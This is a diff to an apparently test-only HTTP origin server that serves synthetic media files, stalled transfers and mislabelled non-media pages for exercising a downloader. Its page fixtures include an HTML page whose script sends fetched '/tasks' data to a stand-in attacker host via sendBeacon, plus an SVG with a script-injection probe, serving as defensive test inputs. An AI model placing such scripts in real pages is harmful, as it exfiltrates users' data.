@@ -26,6 +26,16 @@
 //       n hops of 302 to /redirect-chain/<n-1>/<name>?<same query> (absolute URL on the same
 //       listener, or a relative Location with rel=1), then the bytes at 0.
 //   /slow/<name>?size=N&seed=S&delayMs=D   waits D ms before sending headers, then the bytes
+//   /page/<name>?as=html|xml|svg|json|text[&type=<mime>][&cl=0]
+//       a 200 that is not media: an "expired" HTML page (with a script), an XML error, an SVG
+//       with a script, JSON or text; `type` overrides its Content-Type (a mislabelled page)
+//   /stall/<name>?size=N&send=M&seed=S[&cl=0][&holdMs=H][&once=<key>]
+//       headers (Content-Length N unless cl=0) and M bytes, then silence with the socket held
+//       open for H ms (default 300000) or until the client leaves; with once=<key> only the first
+//       request for <key> stalls, later ones get the whole file
+// Media headers: every body of /bytes, /flaky, /truncate, /redirect-chain, /slow and /stall
+// begins with the real header of the format its name's extension says (mp3, mp4, jpeg, jpg, png,
+// wav) laid over the pattern, or of `?magic=<format>` (`magic=none`: the bare pattern).
 //   /provider/<path>                       scripted provider API (record-info etc.), see below
 // Control routes (never logged):
 //   GET  /__log[?path=<prefix>]  → {"requests":[{method,path,query,host,ua,auth,listener,at}]}
@@ -130,6 +140,66 @@ function patternPiece(offset: number, length: number, seed: number): Buffer {
   return out;
 }
 
+// --- media headers (identical to the MEDIA_HEADERS of test/helpers/pattern.ts) ---
+//
+// A file whose name ends in a media extension (or whose `?magic=` names a format) begins with a
+// real header of that format laid over the pattern (same size), so that a content sniffer takes
+// it for what its name says; `mediaSha256(name, size, seed)` of pattern.ts gives its digest.
+// `magic=none` (or an unknown extension) serves the bare pattern.
+
+const MEDIA_HEADERS: Record<string, Buffer> = {
+  mp3: Buffer.from("fffb9064", "hex"),
+  mp4: Buffer.from("000000186674797069736f6d0000020069736f6d69736f32", "hex"),
+  jpeg: Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
+  jpg: Buffer.from("ffd8ffe000104a46494600010100000100010000", "hex"),
+  png: Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"),
+  wav: Buffer.from(
+    "52494646f0ffff7f57415645666d7420100000000100020044ac000010b102000400100064617461ccffff7f",
+    "hex",
+  ),
+};
+
+/** The header of the file a request asks for: by `?magic=`, else by its name's extension. */
+function headerOf(rawUrl: string | undefined): Buffer {
+  const u = new URL(rawUrl ?? "/", "http://origin.invalid");
+  const format = u.searchParams.get("magic") ?? /\.([a-z0-9]+)$/i.exec(u.pathname)?.[1]?.toLowerCase() ?? "";
+  return MEDIA_HEADERS[format] ?? Buffer.alloc(0);
+}
+
+/** The pattern bytes [offset, offset + length) with the request's media header laid over them. */
+function mediaPiece(rawUrl: string | undefined, offset: number, length: number, seed: number): Buffer {
+  const piece = patternPiece(offset, length, seed);
+  const header = headerOf(rawUrl);
+  if (offset < header.length) header.copy(piece, 0, offset, Math.min(header.length, offset + length));
+  return piece;
+}
+
+/** Bodies of /page/<name>?as=…: what a CDN answers with 200 when the file is gone or never was. */
+const PAGES: Record<string, { type: string; body: string }> = {
+  html: {
+    type: "text/html; charset=utf-8",
+    body:
+      "<!DOCTYPE html>\n<html><head><title>Link expired</title></head><body>\n" +
+      "<h1>This download link has expired</h1>\n" +
+      "<script>fetch('/tasks').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example/', t));</script>\n" +
+      "</body></html>\n",
+  },
+  xml: {
+    type: "application/xml",
+    body:
+      '<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>AccessDenied</Code>' +
+      "<Message>Request has expired</Message><Expires>2026-11-29T10:00:00Z</Expires></Error>\n",
+  },
+  svg: {
+    type: "image/svg+xml",
+    body:
+      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
+      "<script>alert(document.domain)</script><rect width='100' height='100'/></svg>\n",
+  },
+  json: { type: "application/json", body: '{"code":403,"msg":"The link has expired","data":null}\n' },
+  text: { type: "text/plain; charset=utf-8", body: "Link expired. Please generate the file again.\n" },
+};
+
 // --- helpers ---
 
 function intParam(q: URLSearchParams, name: string, dflt: number): number {
@@ -224,7 +294,7 @@ async function sendBytes(res: ServerResponse, o: BytesOptions): Promise<void> {
   while (offset < o.size) {
     if (gone(res)) return;
     const n = Math.min(o.piece, o.size - offset);
-    const ok = res.write(patternPiece(offset, n, o.seed));
+    const ok = res.write(mediaPiece(res.req.url, offset, n, o.seed));
     offset += n;
     if (!ok && !(await drained(res))) return;
     if (o.pieceDelayMs > 0 && offset < o.size) await sleep(o.pieceDelayMs);
@@ -408,7 +478,7 @@ export async function startOrigin(opts: { host?: string; port?: number } = {}): 
         while (offset < send) {
           if (gone(res)) return;
           const n = Math.min(PIECE, send - offset);
-          const ok = res.write(patternPiece(offset, n, seed));
+          const ok = res.write(mediaPiece(req.url, offset, n, seed));
           offset += n;
           if (!ok && !(await drained(res))) return;
         }
@@ -438,6 +508,56 @@ export async function startOrigin(opts: { host?: string; port?: number } = {}): 
         const rest = parts.slice(2).join("/");
         const next = `/redirect-chain/${n - 1}/${rest}${u.search}`;
         text(res, 302, `hop ${n}\n`, { Location: q.get("rel") === "1" ? next : `${base}${next}` });
+        return;
+      }
+      case "page": {
+        // A real 200 answer that is not media: an error page, an XML error, an SVG, JSON, text.
+        if (parts.length < 2) break;
+        const as = q.get("as") ?? "html";
+        const page = PAGES[as];
+        if (!page) throw new BadRequest(`unknown page ?as=${as}`);
+        const buf = Buffer.from(page.body, "utf8");
+        res.writeHead(200, {
+          "Content-Type": q.get("type") || page.type,
+          ...(q.get("cl") === "0" ? {} : { "Content-Length": String(buf.length) }),
+          "Cache-Control": "no-store",
+        });
+        res.end(method === "HEAD" ? undefined : buf);
+        return;
+      }
+      case "stall": {
+        // Headers and `send` bytes, then silence: the socket stays open (holdMs, default 5 min)
+        // until the client gives up. With once=<key>, later requests for that key get the file.
+        if (parts.length < 2) break;
+        const once = q.get("once");
+        if (once) {
+          const seen = (flaky.get(`stall:${once}`) ?? 0) + 1;
+          flaky.set(`stall:${once}`, seen);
+          if (seen > 1) {
+            await sendBytes(res, { ...bytesOptions(q), contentLength: true });
+            return;
+          }
+        }
+        const size = intParam(q, "size", 1024);
+        const send = Math.min(intParam(q, "send", Math.floor(size / 2)), size);
+        const seed = intParam(q, "seed", 0);
+        res.writeHead(200, {
+          "Content-Type": q.get("type") || "application/octet-stream",
+          ...(q.get("cl") === "0" ? {} : { "Content-Length": String(size) }),
+          "Cache-Control": "no-store",
+        });
+        res.flushHeaders();
+        if (send > 0) res.write(mediaPiece(req.url, 0, send, seed));
+        await new Promise<void>((resolve) => {
+          const done = () => {
+            clearTimeout(timer);
+            res.off("close", done);
+            resolve();
+          };
+          const timer = setTimeout(done, intParam(q, "holdMs", 300_000));
+          res.on("close", done);
+        });
+        if (!gone(res)) res.destroy();
         return;
       }
       case "slow": {
